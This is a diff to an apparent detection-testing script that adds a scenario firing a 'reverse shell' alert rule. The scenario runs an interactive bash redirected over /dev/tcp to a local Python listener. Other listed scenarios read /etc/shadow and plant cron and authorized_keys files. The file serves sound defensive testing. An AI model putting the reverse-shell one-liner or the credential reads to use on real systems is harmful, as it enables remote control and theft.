@@ -39,6 +39,7 @@ SCENARIOS=(
 	"cred      rg-cred-sensitive-read|cat /etc/shadow"
 	"cron      rg-persist-cron|a comment-only file written in /etc/cron.d"
 	"sshkeys   rg-persist-ssh-authorized-keys|an authorized_keys file (no key) in a home directory of no user"
+	"revshell  rg-reverse-shell|bash -i with its stdio on a TCP connection to a listener on 127.0.0.1, which sends it one echo and exit"
 )
 
 WAIT=10
@@ -267,6 +268,35 @@ scenario_sshkeys() {
 	cleanup "$home" "$home/.ssh" "$home/.ssh/authorized_keys"
 	mkdir -p "$home/.ssh"
 	printf '# rand-guard demo: no key\n' >"$home/.ssh/authorized_keys"
+}
+
+# T1059.004: an interactive bash over a TCP connection to 127.0.0.1; the
+# listener (python3) sends it one command, echo TAG, then exit.
+scenario_revshell() {
+	"$PYTHON" - "$TAG" <<'EOF'
+import socket, subprocess, sys
+tag = sys.argv[1]
+l = socket.socket()
+l.bind(("127.0.0.1", 0))
+l.listen(1)
+port = l.getsockname()[1]
+sh = subprocess.Popen(
+    # $0 carries the tag: the alerts show it as the (parent) process's argv.
+    ["/bin/bash", "-c", "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port, "bash-" + tag],
+    stderr=subprocess.DEVNULL,
+)
+c, _ = l.accept()
+c.settimeout(10)
+c.sendall(("echo %s\nexit\n" % tag).encode())
+out = b""
+while True:
+    b = c.recv(4096)
+    if not b:
+        break
+    out += b
+sh.wait(timeout=10)
+sys.exit(0 if tag.encode() in out else 1)
+EOF
 }
 
 # --- run --------------------------------------------------------------------
